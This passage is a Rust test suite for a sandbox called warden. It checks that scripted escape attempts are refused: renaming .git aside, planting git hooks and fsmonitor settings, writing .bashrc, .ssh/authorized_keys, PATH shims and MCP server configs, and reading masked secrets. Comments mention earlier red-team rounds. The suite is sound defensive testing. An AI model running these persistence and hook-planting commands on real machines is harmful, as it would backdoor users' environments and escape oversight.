//! Protections that must hold against a command that works around them: renaming an ancestor
//! of a protected or masked entry aside, git state outside `.git/hooks` and `.git/config`
//! (submodules, worktrees, `.git` files), warden's and git's user configuration in a writable
//! home, a home reached through a symlink, and denyWrite paths that do not exist yet. Each is
//! checked from the host after the run.

#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a failed unwrap is a failed test
use std::collections::BTreeSet;
use std::path::Path;
use std::process::Stdio;
use warden_tests::{Output, TestEnv};

/// `warden run ARGS -- sh -c SCRIPT` in `cwd`.
fn sh(env: &TestEnv, cwd: &Path, args: &[&str], script: &str) -> Output {
    let out = env
        .command()
        .current_dir(cwd)
        .arg("run")
        .args(args)
        .args(["--", "sh", "-c", script])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    Output {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// Each line of `script` is `label: command`; prints `label ok` or `label refused`.
/// Runs the host's `git ARGS` in `dir` with the test's home; its stdout. Panics on failure.
fn git_in(env: &TestEnv, dir: &Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .current_dir(dir)
        .args(args)
        .env("HOME", env.home())
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// [`git_in`] as the user `t <t@t>` (commits need an identity).
fn git_as_t(env: &TestEnv, dir: &Path, args: &[&str]) -> String {
    let mut all = vec!["-c", "user.email=t@t", "-c", "user.name=t"];
    all.extend_from_slice(args);
    git_in(env, dir, &all)
}

fn attempts(lines: &[(&str, &str)]) -> String {
    lines
        .iter()
        .map(|(label, cmd)| {
            format!("if ( {cmd} ) 2>/dev/null; then echo '{label} ok'; else echo '{label} refused'; fi\n")
        })
        .collect()
}

fn assert_refused(out: &Output, labels: &[&str]) {
    for label in labels {
        assert!(
            out.stdout.contains(&format!("{label} refused")),
            "{label} was not refused: {out:?}"
        );
    }
}

/// `warden run ARGS -- SHELL -c SCRIPT` in `cwd`, started in the background with its output
/// captured (for tests where the host acts while the sandbox runs).
fn start(
    env: &TestEnv,
    cwd: &Path,
    args: &[&str],
    shell: &str,
    script: &str,
) -> std::process::Child {
    env.command()
        .current_dir(cwd)
        .arg("run")
        .args(args)
        .args(["--", shell, "-c", script])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// Waits (up to 30 s) for `path`: the sandboxed script's sign that it got going.
fn wait_for(path: &Path) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !path.exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "{} did not appear",
            path.display()
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

/// Stdout and stderr of a [`start`]ed run, once it ended.
fn finish(child: std::process::Child) -> (String, String) {
    let out = child.wait_with_output().unwrap();
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn renaming_an_ancestor_of_a_protection_aside_is_refused() {
    let env = TestEnv::new();
    let project = env.project();
    write(&project.join(".git/HEAD"), "ref: refs/heads/main\n");
    write(&project.join(".git/config"), "[core]\n");
    write(&project.join(".git/hooks/README"), "hooks\n");
    write(&project.join("sub/.claude/settings.json"), "{}\n");
    write(&project.join("conf/app/secret.key"), "API-KEY-123\n");
    let secret = project.join("conf/app/secret.key");
    let script = attempts(&[
        ("git-aside", "mv .git .git-aside"),
        ("sub-aside", "mv sub sub-old"),
        ("conf-aside", "mv conf conf.old"),
        ("app-aside", "mv conf/app conf/app2"),
        ("rmdir-git", "rm -rf .git"),
    ]) + "cat conf/app/secret.key conf.old/app/secret.key 2>/dev/null; true";
    let out = sh(
        &env,
        &project,
        &["--deny-read", secret.to_str().unwrap()],
        &script,
    );
    assert_eq!(out.code, 0, "{out:?}");
    assert_refused(
        &out,
        &[
            "git-aside",
            "sub-aside",
            "conf-aside",
            "app-aside",
            "rmdir-git",
        ],
    );
    assert!(!out.stdout.contains("API-KEY"), "{out:?}");
    // From the host: everything where it was, nothing renamed aside.
    for p in [
        ".git/hooks/README",
        ".git/config",
        "sub/.claude/settings.json",
        "conf/app/secret.key",
    ] {
        assert!(project.join(p).exists(), "{p} was moved away");
    }
    for p in [".git-aside", "sub-old", "conf.old", "conf/app2"] {
        assert!(!project.join(p).exists(), "{p} exists");
    }
    // Ordinary work inside a pinned directory goes on: files in .git, in sub.
    let out = sh(
        &env,
        &project,
        &[],
        "echo x > .git/ORIG_HEAD && mkdir sub/new && mv sub/new sub/renamed && echo done",
    );
    assert!(out.stdout.contains("done"), "{out:?}");
    assert!(project.join("sub/renamed").is_dir());
}

#[test]
fn submodule_and_worktree_git_state_and_git_files_are_read_only() {
    let env = TestEnv::new();
    let project = env.project();
    write(&project.join(".git/HEAD"), "ref: refs/heads/main\n");
    write(
        &project.join(".git/modules/libsub/HEAD"),
        "ref: refs/heads/main\n",
    );
    write(&project.join(".git/modules/libsub/config"), "[core]\n");
    write(&project.join(".git/modules/libsub/hooks/README"), "hooks\n");
    write(&project.join(".git/worktrees/wt2/commondir"), "../..\n");
    write(
        &project.join(".git/worktrees/wt2/gitdir"),
        "/elsewhere/wt2/.git\n",
    );
    write(
        &project.join("libsub/.git"),
        "gitdir: ../.git/modules/libsub\n",
    );
    let script = attempts(&[
        (
            "sub-hook",
            "echo 'echo pwned' > .git/modules/libsub/hooks/pre-commit",
        ),
        (
            "sub-config",
            "echo '[alias] x = !echo pwned' >> .git/modules/libsub/config",
        ),
        ("commondir", "echo /tmp/evil > .git/worktrees/wt2/commondir"),
        ("gitdir", "echo /tmp/evil > .git/worktrees/wt2/gitdir"),
        ("git-file", "echo 'gitdir: .evil' > libsub/.git"),
        ("git-file-rm", "rm -f libsub/.git"),
    ]);
    let out = sh(&env, &project, &[], &script);
    assert_eq!(out.code, 0, "{out:?}");
    assert_refused(
        &out,
        &[
            "sub-hook",
            "sub-config",
            "commondir",
            "gitdir",
            "git-file",
            "git-file-rm",
        ],
    );
    assert!(!project
        .join(".git/modules/libsub/hooks/pre-commit")
        .exists());
    let read = |p: &str| std::fs::read_to_string(project.join(p)).unwrap();
    assert_eq!(read(".git/modules/libsub/config"), "[core]\n");
    assert_eq!(read(".git/worktrees/wt2/commondir"), "../..\n");
    assert_eq!(read("libsub/.git"), "gitdir: ../.git/modules/libsub\n");
    // The policy agrees.
    let check = env.run([
        "check",
        "--write",
        project
            .join(".git/modules/libsub/hooks/pre-commit")
            .to_str()
            .unwrap(),
    ]);
    assert_eq!(check.code, 1, "{check:?}");
}

#[test]
fn warden_and_git_user_configuration_cannot_be_written_from_a_writable_home() {
    let env = TestEnv::new();
    let home = env.home();
    let settings = env.write_settings("home/sandbox.json", "{}");
    let script = attempts(&[
        (
            "warden-settings",
            "mkdir -p .config/warden && echo '{}' > .config/warden/settings.json",
        ),
        ("gitconfig", "echo '[alias] x = !echo pwned' > .gitconfig"),
        (
            "git-xdg",
            "mkdir -p .config/git && echo x > .config/git/config",
        ),
        (
            "cli-settings",
            "echo '{\"filesystem\":{\"allowWrite\":[\"/\"]}}' > sandbox.json",
        ),
        ("bashrc", "echo 'echo pwned' > .bashrc"),
    ]) + "echo x > notes.txt && echo wrote-notes";
    let out = sh(
        &env,
        &home,
        &["--settings", settings.to_str().unwrap()],
        &script,
    );
    assert_eq!(out.code, 0, "{out:?}");
    assert_refused(
        &out,
        &[
            "warden-settings",
            "gitconfig",
            "git-xdg",
            "cli-settings",
            "bashrc",
        ],
    );
    assert!(
        out.stdout.contains("wrote-notes"),
        "the home stays writable: {out:?}"
    );
    assert!(!home.join(".config/warden/settings.json").exists());
    assert!(!home.join(".config/git/config").exists());
    assert_eq!(std::fs::read_to_string(&settings).unwrap(), "{}");
    // Placeholders are gone after the run (nothing left on the host).
    for p in [".gitconfig", ".bashrc", ".config/warden"] {
        assert!(!home.join(p).exists(), "{p} left behind");
    }
    // The policy agrees.
    let check = env.run([
        "check",
        "--write",
        home.join(".config/warden/settings.json").to_str().unwrap(),
    ]);
    assert_eq!(check.code, 1, "{check:?}");
}

#[test]
fn a_home_reached_through_a_symlink_keeps_its_protections() {
    let env = TestEnv::new();
    let home = env.home();
    let link = env.root().join("homelink");
    std::os::unix::fs::symlink(&home, &link).unwrap();
    let out = env
        .command()
        .current_dir(&link)
        .env("HOME", &link)
        .args(["run", "--", "sh", "-c"])
        .arg(attempts(&[
            ("bashrc", "echo 'echo pwned' > .bashrc"),
            ("ssh", "mkdir -p .ssh && echo key > .ssh/authorized_keys"),
        ]))
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("bashrc refused"), "{stdout} {:?}", out);
    assert!(stdout.contains("ssh refused"), "{stdout}");
    assert!(!home.join(".bashrc").exists());
    assert!(!home.join(".ssh/authorized_keys").exists());
}

#[test]
fn a_deny_write_path_that_does_not_exist_yet_cannot_be_created() {
    let env = TestEnv::new();
    let project = env.project();
    std::fs::create_dir_all(project.join("src")).unwrap();
    let settings = env.write_settings(
        "s.json",
        &format!(
            r#"{{"filesystem":{{"denyWrite":["{p}/deploy.sh","{p}/newdir/x","{p}/src/gen/out.rs"]}}}}"#,
            p = project.display()
        ),
    );
    let script = attempts(&[
        ("deploy", "echo evil > deploy.sh"),
        ("newdir", "mkdir -p newdir/x"),
        ("gen", "mkdir -p src/gen && echo evil > src/gen/out.rs"),
        ("src-aside", "mv src src2"),
    ]) + "echo ok > src/main.rs && echo wrote-src";
    let out = sh(
        &env,
        &project,
        &["--settings", settings.to_str().unwrap()],
        &script,
    );
    assert_eq!(out.code, 0, "{out:?}");
    assert_refused(&out, &["deploy", "newdir", "gen", "src-aside"]);
    assert!(out.stdout.contains("wrote-src"), "{out:?}");
    for p in ["deploy.sh", "newdir", "src/gen"] {
        assert!(!project.join(p).exists(), "{p} exists after the run");
    }
}

#[test]
fn a_protection_the_host_replaces_during_the_run_is_put_back() {
    let env = TestEnv::new();
    let project = env.project();
    write(&project.join(".git/HEAD"), "ref: refs/heads/main\n");
    write(&project.join(".git/config"), "[core]\n");
    write(&project.join("secret.txt"), "PROJECT-SECRET-1\n");
    let creds = env.root().join("outside/creds");
    write(&creds, "CREDS-1\n");
    let secdir = project.join("secdir");
    write(&secdir.join("y"), "DIR-SECRET-1\n");
    let script = String::from("touch started; while [ ! -e go ]; do sleep 0.05; done\n")
        + &attempts(&[(
            "git-config",
            "echo '[alias] x = !echo pwned' >> .git/config",
        )])
        + "cat secret.txt secdir/y 2>&1; cat "
        + creds.to_str().unwrap()
        + " 2>&1; echo finished";
    let secret = project.join("secret.txt");
    let child = start(
        &env,
        &project,
        &[
            "--deny-read",
            secret.to_str().unwrap(),
            "--deny-read",
            creds.to_str().unwrap(),
            "--deny-read",
            secdir.to_str().unwrap(),
        ],
        "sh",
        &script,
    );
    wait_for(&project.join("started"));
    // What `git config`, editors and credential helpers do: write aside, rename over.
    let replace = |path: &Path, text: &str| {
        let tmp = path.with_extension("tmp-host");
        std::fs::write(&tmp, text).unwrap();
        std::fs::rename(&tmp, path).unwrap();
    };
    // Several times over: each replacement takes the restored protection away again.
    for round in 0..5 {
        replace(&project.join(".git/config"), "[core]\n\tbare = false\n");
        replace(&secret, &format!("PROJECT-SECRET-{round}\n"));
        replace(&creds, &format!("CREDS-{round}\n"));
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    // A masked directory removed and, a moment later, made again on the host: pid 1 has
    // reserved the name by then, and the host's new file lands behind the mask. (Made again
    // at once, the new directory cannot be told from one the command put there, and the
    // sandbox ends: `a_protected_directory_the_host_removes_cannot_be_replaced_by_the_command`.)
    std::fs::remove_dir_all(&secdir).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(200));
    write(&secdir.join("y"), "DIR-SECRET-2\n");
    std::thread::sleep(std::time::Duration::from_millis(500));
    std::fs::write(project.join("go"), "").unwrap();
    let (stdout, stderr) = finish(child);
    assert!(stdout.contains("finished"), "{stdout}\n{stderr}");
    assert!(stdout.contains("git-config refused"), "{stdout}\n{stderr}");
    assert!(!stdout.contains("SECRET"), "{stdout}");
    assert!(!stdout.contains("CREDS"), "{stdout}");
    assert_eq!(
        std::fs::read_to_string(project.join(".git/config")).unwrap(),
        "[core]\n\tbare = false\n"
    );
    assert!(stderr.contains("restored"), "{stderr}");
}

#[test]
fn pins_and_protections_hold_for_an_unprivileged_caller() {
    use std::os::unix::process::CommandExt;
    if !nix::unistd::geteuid().is_root() {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "this test switches to an unprivileged user and needs root under CI"
        );
        eprintln!(
            "\n*** SKIPPED pins_and_protections_hold_for_an_unprivileged_caller: not root ***\n"
        );
        return;
    }
    let env = TestEnv::new();
    let project = env.project();
    write(&project.join(".git/HEAD"), "ref: refs/heads/main\n");
    write(&project.join(".git/config"), "[core]\n");
    write(&project.join("sub/.claude/settings.json"), "{}\n");
    let settings = env.write_settings("s.json", r#"{"sandbox": {"failIfUnavailable": false}}"#);
    let runs = env.root().join("runs");
    std::fs::create_dir_all(&runs).unwrap();
    let status = std::process::Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(env.root())
        .status()
        .unwrap();
    assert!(status.success());
    let script = attempts(&[
        ("git-aside", "mv .git .git-aside"),
        ("sub-aside", "mv sub sub-old"),
        ("git-config", "echo x >> .git/config"),
        ("claude", "echo x > sub/.claude/settings.json"),
    ]) + "id -u";
    let out = env
        .command()
        .current_dir(&project)
        .uid(65534)
        .gid(65534)
        .env("TMPDIR", &runs)
        .args([
            "run",
            "--settings",
            settings.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            &script,
        ])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stdout}{stderr}");
    assert!(stdout.contains("65534"), "{stdout}");
    for label in ["git-aside", "sub-aside", "git-config", "claude"] {
        assert!(
            stdout.contains(&format!("{label} refused")),
            "{label}: {stdout}{stderr}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(project.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(!project.join(".git-aside").exists() && !project.join("sub-old").exists());
}

#[test]
fn a_root_nested_in_the_working_directory_cannot_be_moved_aside() {
    let env = TestEnv::new();
    let project = env.project();
    let inner = project.join("x/inner");
    write(&inner.join("repo/.git/HEAD"), "ref: refs/heads/main\n");
    write(&inner.join("repo/.git/hooks/README"), "hooks\n");
    let script = attempts(&[
        ("x-aside", "mv x x-old"),
        ("inner-aside", "mv x/inner x/inner2"),
    ]) + "echo ok > x/inner/notes.txt && echo wrote";
    let out = sh(
        &env,
        &project,
        &["--allow-write", inner.to_str().unwrap()],
        &script,
    );
    assert_eq!(out.code, 0, "{out:?}");
    assert_refused(&out, &["x-aside", "inner-aside"]);
    assert!(out.stdout.contains("wrote"), "{out:?}");
    assert!(!project.join("x-old").exists());
    assert!(inner.join("repo/.git/hooks/README").exists());
}

#[test]
fn hooks_and_config_the_repository_names_outside_git_are_read_only() {
    let env = TestEnv::new();
    let project = env.project();
    write(&project.join(".git/HEAD"), "ref: refs/heads/main\n");
    write(
        &project.join(".git/config"),
        "[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../tools/gitconfig\n\
         [include]\n\tpath = ~/../project/tools/tilde.cfg\n\
         [includeIf \"onbranch:main\"]\n\tpath = ~/../project/tools/missing.cfg\n",
    );
    write(&project.join(".githooks/README"), "hooks\n");
    write(&project.join("tools/gitconfig"), "[user]\n\tname = x\n");
    // `~` is the home, as git expands it (red-team round 22 wrote through these).
    write(&project.join("tools/tilde.cfg"), "[user]\n\tname = x\n");
    let script = attempts(&[
        ("hook", "echo 'echo pwned' > .githooks/pre-commit"),
        (
            "include",
            "echo '[core] fsmonitor = evil' >> tools/gitconfig",
        ),
        ("tilde", "echo '[core] fsmonitor = evil' >> tools/tilde.cfg"),
        (
            "tilde-missing",
            "echo '[core] fsmonitor = evil' > tools/missing.cfg",
        ),
    ]) + "echo ok > tools/other && echo wrote";
    let out = sh(&env, &project, &[], &script);
    assert_eq!(out.code, 0, "{out:?}");
    assert_refused(&out, &["hook", "include", "tilde", "tilde-missing"]);
    assert_eq!(
        std::fs::read_to_string(project.join("tools/tilde.cfg")).unwrap(),
        "[user]\n\tname = x\n"
    );
    assert!(!project.join("tools/missing.cfg").is_file());
    assert!(out.stdout.contains("wrote"), "{out:?}");
    assert!(!project.join(".githooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(project.join("tools/gitconfig")).unwrap(),
        "[user]\n\tname = x\n"
    );
}

#[test]
fn a_commondir_the_command_creates_in_a_git_dir_ends_the_sandbox() {
    let env = TestEnv::new();
    let project = env.project();
    write(&project.join(".git/HEAD"), "ref: refs/heads/main\n");
    write(&project.join(".git/config"), "[core]\n");
    write(&project.join(".git/hooks/README"), "hooks\n");
    write(
        &project.join(".git/modules/sub/HEAD"),
        "ref: refs/heads/main\n",
    );
    write(&project.join(".git/modules/sub/config"), "[core]\n");
    // The command prepares the name pid 1 would move it to first, then plants the pointer
    // and would go on planting it in a loop.
    let script = "mkdir -p evil .git/commondir.warden-blocked-0/x && \
                  while true; do [ -e .git/commondir ] || echo \"$PWD/evil\" > .git/commondir; done";
    let out = sh(&env, &project, &[], script);
    assert_eq!(out.code, 137, "{out:?}");
    assert!(out.stderr.contains("the sandbox was ended"), "{out:?}");
    assert!(!project.join(".git/commondir").exists());
    // Moved into a directory of its own under an unguessable name (not the one prepared,
    // which holds no `commondir` file).
    let moved = moved_aside(&project.join(".git"), "commondir");
    assert_eq!(moved.len(), 1, "{moved:?}");
    assert!(!moved[0].starts_with(project.join(".git/commondir.warden-blocked-0")));
    // A submodule's git dir, through a rename.
    let script = "echo \"$PWD/evil\" > .git/modules/sub/commondir.tmp && \
                  mv .git/modules/sub/commondir.tmp .git/modules/sub/commondir; sleep 5; echo survived";
    let out = sh(&env, &project, &[], script);
    assert_eq!(out.code, 137, "{out:?}");
    assert!(!out.stdout.contains("survived"), "{out:?}");
    assert!(!project.join(".git/modules/sub/commondir").exists());
    // The policy agrees.
    let check = env.run([
        "check",
        "--write",
        project.join(".git/modules/sub/commondir").to_str().unwrap(),
    ]);
    assert_eq!(check.code, 1, "{check:?}");
}

/// The entries in `dir` named `NAME.warden-blocked-*` holding `NAME`: the moved-aside files.
fn moved_aside(dir: &Path, name: &str) -> Vec<std::path::PathBuf> {
    std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            let n = p.file_name().unwrap().to_string_lossy().into_owned();
            n.starts_with(&format!("{name}.warden-blocked-"))
        })
        .map(|p| p.join(name))
        .filter(|p| p.is_file())
        .collect()
}

/// Protected files that do not exist get no placeholder (an empty `.mcp.json` would break
/// the host's tools reading it meanwhile and show in `git status`): one the command makes —
/// in place, renamed in, or as it exits — is moved aside by pid 1 at once or by warden after
/// the run, so the host's tools never read it; the command goes on, unless it keeps making
/// them. A file that existed stays as it was.
#[test]
fn a_protected_file_the_command_creates_is_moved_aside() {
    let env = TestEnv::new();
    let project = env.project();
    write(&project.join("lefthook.yml"), "pre-commit: {}\n");
    let script = "echo '{\"mcpServers\":{\"x\":{\"command\":\"id\"}}}' > .mcp.json; \
                  echo 'repos: []' > staged && mv staged .pre-commit-config.yaml; \
                  sleep 0.5; \
                  [ -e .mcp.json ] && echo mcp-still-there; \
                  echo 'x' >> lefthook.yml 2>/dev/null || echo lefthook-refused; \
                  echo '{}' > opencode.json; echo '{}' > lefthook-local.json; echo finished";
    let out = sh(&env, &project, &[], script);
    assert_eq!(out.code, 0, "{out:?}");
    assert!(out.stdout.contains("finished"), "{out:?}");
    assert!(
        !out.stdout.contains("mcp-still-there"),
        "moved while it ran: {out:?}"
    );
    assert!(out.stdout.contains("lefthook-refused"), "{out:?}");
    for name in [
        ".mcp.json",
        ".pre-commit-config.yaml",
        "opencode.json",
        "lefthook-local.json",
    ] {
        assert!(!project.join(name).exists(), "{name}: {out:?}");
        let moved = moved_aside(&project, name);
        assert_eq!(moved.len(), 1, "{name}: {moved:?} {out:?}");
        assert!(out
            .stderr
            .contains(&format!("{} appeared", project.join(name).display())));
    }
    let mcp = std::fs::read_to_string(&moved_aside(&project, ".mcp.json")[0]).unwrap();
    assert!(mcp.contains("mcpServers"), "{mcp}");
    assert_eq!(
        std::fs::read_to_string(project.join("lefthook.yml")).unwrap(),
        "pre-commit: {}\n"
    );
    // Made again and again: moved each time, then the sandbox is ended.
    let out = sh(
        &env,
        &project,
        &[],
        "while true; do echo '{}' > crush.json 2>/dev/null; sleep 0.02; done",
    );
    assert_eq!(out.code, 137, "{out:?}");
    assert!(out.stderr.contains("the sandbox was ended"), "{out:?}");
    assert!(!project.join("crush.json").exists());
    // Made eight times and gone at once with status 0 (red-team round 23: warden said the
    // sandbox was ended and exited 0, having lost the race to the command's exit).
    for _ in 0..3 {
        let out = sh(
            &env,
            &project,
            &[],
            "for i in 1 2 3 4 5 6 7 8; do echo '{}' > kilo.json; sleep 0.05; done 2>/dev/null; exit 0",
        );
        if out.stderr.contains("the sandbox was ended") {
            assert_eq!(out.code, 137, "ended, yet: {out:?}");
        }
        assert!(!project.join("kilo.json").exists());
    }
}

#[test]
fn what_the_global_git_config_names_is_read_only_in_a_writable_home() {
    let env = TestEnv::new();
    let home = env.home();
    write(
        &home.join(".gitconfig"),
        "[include]\n\tpath = ~/.gitconfig.local\n[core]\n\thooksPath = ~/.githooks\n",
    );
    write(&home.join(".gitconfig.local"), "[user]\n\tname = u\n");
    write(&home.join(".githooks/README"), "hooks\n");
    let script = attempts(&[
        (
            "local",
            "echo '[core] fsmonitor = evil' >> .gitconfig.local",
        ),
        ("hook", "echo 'echo pwned' > .githooks/pre-commit"),
    ]);
    let out = sh(&env, &home, &[], &script);
    assert_eq!(out.code, 0, "{out:?}");
    assert_refused(&out, &["local", "hook"]);
    assert_eq!(
        std::fs::read_to_string(home.join(".gitconfig.local")).unwrap(),
        "[user]\n\tname = u\n"
    );
    assert!(!home.join(".githooks/pre-commit").exists());
}

#[test]
fn a_deny_read_path_the_host_creates_during_the_run_is_masked() {
    let env = TestEnv::new();
    let project = env.project();
    let aws = env.home().join(".aws");
    let env_file = project.join("secret.env");
    let script = format!(
        "touch started; while [ ! -e go ]; do sleep 0.05; done; \
         cat {creds} secret.env 2>&1; ls {aws} 2>&1; echo finished",
        creds = aws.join("credentials").display(),
        aws = aws.display()
    );
    let child = start(
        &env,
        &project,
        &[
            "--deny-read",
            aws.to_str().unwrap(),
            "--deny-read",
            env_file.to_str().unwrap(),
        ],
        "sh",
        &script,
    );
    wait_for(&project.join("started"));
    // `aws configure`, a .env written by a tool: created while the sandbox runs.
    write(&aws.join("credentials"), "AWS-SECRET\n");
    write(&env_file, "ENV-SECRET\n");
    std::thread::sleep(std::time::Duration::from_millis(500));
    std::fs::write(project.join("go"), "").unwrap();
    let (stdout, stderr) = finish(child);
    assert!(stdout.contains("finished"), "{stdout}\n{stderr}");
    assert!(!stdout.contains("SECRET"), "{stdout}\n{stderr}");
    assert!(stderr.contains("masked"), "{stderr}");
}

#[test]
fn a_missing_deny_read_path_in_the_project_cannot_be_prepared_by_the_command() {
    let env = TestEnv::new();
    let project = env.project();
    let env_file = project.join(".env");
    let token = project.join("sec/token");
    // What the command tries before the host writes the secrets: a symlink at the name, the
    // parent made and moved aside, the file made first and held open.
    let script = String::from("touch started; ")
        + &attempts(&[
            ("symlink", "ln -s nowhere .env"),
            ("mkdir-sec", "mkdir sec"),
            ("hold", "exec 3>.env"),
        ])
        + "while [ ! -e go ]; do sleep 0.05; done; cat .env sec/token 2>&1; echo finished";
    let child = start(
        &env,
        &project,
        &[
            "--deny-read",
            env_file.to_str().unwrap(),
            "--deny-read",
            token.to_str().unwrap(),
        ],
        "bash",
        &script,
    );
    wait_for(&project.join("started"));
    std::thread::sleep(std::time::Duration::from_millis(300));
    std::fs::write(&env_file, "API_KEY=HOST-SECRET-1\n").unwrap();
    write(&token, "HOST-SECRET-2\n");
    std::thread::sleep(std::time::Duration::from_millis(300));
    std::fs::write(project.join("go"), "").unwrap();
    let (stdout, stderr) = finish(child);
    assert!(stdout.contains("finished"), "{stdout}\n{stderr}");
    for label in ["symlink", "mkdir-sec", "hold"] {
        assert!(
            stdout.contains(&format!("{label} refused")),
            "{label}: {stdout}{stderr}"
        );
    }
    assert!(!stdout.contains("HOST-SECRET"), "{stdout}\n{stderr}");
    // The host's files are the host's: written through the placeholders, kept after the run.
    assert_eq!(
        std::fs::read_to_string(&env_file).unwrap(),
        "API_KEY=HOST-SECRET-1\n"
    );
    assert_eq!(std::fs::read_to_string(&token).unwrap(), "HOST-SECRET-2\n");
}

#[test]
fn a_deny_read_placeholder_outlives_the_first_of_two_sandboxes() {
    let env = TestEnv::new();
    let project = env.project();
    let env_file = project.join(".env");
    let deny = ["--deny-read", env_file.to_str().unwrap()];
    let spawn = |script: &str| start(&env, &project, &deny, "bash", script);
    let a = spawn("touch a_started; while [ ! -e goA ]; do sleep 0.05; done");
    wait_for(&project.join("a_started"));
    let b = spawn(
        "touch b_started; while [ ! -e goB ]; do sleep 0.05; done; \
         if exec 3>.env; then echo held; fi; cat .env; echo finished",
    );
    wait_for(&project.join("b_started"));
    std::fs::write(project.join("goA"), "").unwrap();
    let out_a = a.wait_with_output().unwrap();
    assert_eq!(out_a.status.code(), Some(0), "{out_a:?}");
    // A is gone; B still runs: the placeholder must still be there and masked for B.
    assert!(
        env_file.exists(),
        "the first sandbox removed the placeholder the second holds"
    );
    std::fs::write(&env_file, "API_KEY=HOST-SECRET\n").unwrap();
    std::fs::write(project.join("goB"), "").unwrap();
    let out_b = b.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out_b.stdout);
    assert!(stdout.contains("finished"), "{out_b:?}");
    assert!(!stdout.contains("held"), "{stdout}");
    assert!(!stdout.contains("HOST-SECRET"), "{stdout}");
    assert_eq!(
        std::fs::read_to_string(&env_file).unwrap(),
        "API_KEY=HOST-SECRET\n"
    );
}

/// Start-up files in a writable home beyond the rc files: `.bash_aliases` (Debian's `.bashrc`
/// sources it), `.local/bin` (on `PATH` from `.profile`), Claude Code's `~/.claude.json`
/// (`mcpServers` commands), cargo's config. Existing or not, the command cannot write them.
#[test]
fn start_up_files_in_a_writable_home_are_protected() {
    let env = TestEnv::new();
    let home = env.home();
    write(&home.join(".claude.json"), "{}\n");
    std::fs::create_dir_all(home.join(".local/bin")).unwrap();
    std::fs::create_dir_all(home.join(".pyenv/shims")).unwrap();
    let script = attempts(&[
        ("aliases", "echo 'touch /tmp/pwned' > .bash_aliases"),
        ("local-bin", "echo 'touch /tmp/pwned' > .local/bin/git"),
        ("claude-json", "echo '{\"mcpServers\":{}}' > .claude.json"),
        (
            "cargo-config",
            "mkdir -p .cargo && echo '[build]' > .cargo/config.toml",
        ),
        ("inputrc", "echo x > .inputrc"),
        (
            "pyenv-shim",
            "echo 'touch /tmp/pwned' > .pyenv/shims/python3",
        ),
        ("yarnrc", "echo 'yarnPath: x.js' > .yarnrc.yml"),
        // Red-team round 20: more files and directories other programs run.
        ("xsession", "echo 'touch /tmp/pwned' > .xsession"),
        ("sbt", "mkdir -p .sbt/1.0 && echo x > .sbt/1.0/global.sbt"),
        (
            "julia",
            "mkdir -p .julia/config && echo x > .julia/config/startup.jl",
        ),
        (
            "jupyter",
            "mkdir -p .jupyter && echo x > .jupyter/jupyter_config.py",
        ),
        (
            "gemini",
            "mkdir -p .gemini && echo '{}' > .gemini/settings.json",
        ),
        ("bunfig", "echo 'preload = [\"x.ts\"]' > .bunfig.toml"),
        ("sqliterc", "echo '.shell touch /tmp/pwned' > .sqliterc"),
        ("mongoshrc", "echo x > .mongoshrc.js"),
        // Round 22: less's start-up file (`#env LESSOPEN=|prog %s` runs under git's pager),
        // husky 9's init script.
        ("lesskey", "printf '#env\\nLESSOPEN=|x %%s\\n' > .lesskey"),
        (
            "husky-init",
            "mkdir -p .config/husky && echo x > .config/husky/init.sh",
        ),
    ]) + "echo x > notes.txt && echo wrote-notes";
    let out = sh(&env, &home, &[], &script);
    assert_eq!(out.code, 0, "{out:?}");
    assert_refused(
        &out,
        &[
            "aliases",
            "local-bin",
            "claude-json",
            "cargo-config",
            "inputrc",
            "pyenv-shim",
            "yarnrc",
            "xsession",
            "sbt",
            "julia",
            "jupyter",
            "gemini",
            "bunfig",
            "sqliterc",
            "mongoshrc",
            "lesskey",
            "husky-init",
        ],
    );
    assert!(out.stdout.contains("wrote-notes"), "{out:?}");
    assert_eq!(
        std::fs::read_to_string(home.join(".claude.json")).unwrap(),
        "{}\n"
    );
    for p in [
        ".bash_aliases",
        ".local/bin/git",
        ".cargo/config.toml",
        ".inputrc",
        ".pyenv/shims/python3",
        ".yarnrc.yml",
        ".xsession",
        ".sbt",
        ".julia",
        ".jupyter",
        ".gemini",
        ".bunfig.toml",
        ".sqliterc",
        ".mongoshrc.js",
        ".lesskey",
        ".config/husky",
    ] {
        assert!(!home.join(p).exists(), "{p} was written or left behind");
    }
    let check = env.run([
        "check",
        "--write",
        home.join(".local/bin/git").to_str().unwrap(),
    ]);
    assert_eq!(check.code, 1, "{check:?}");
}

/// warden runs the `beforeCommand` hook on the host, unsandboxed: a hook kept in the project
/// must not be rewritable by the sandbox.
#[test]
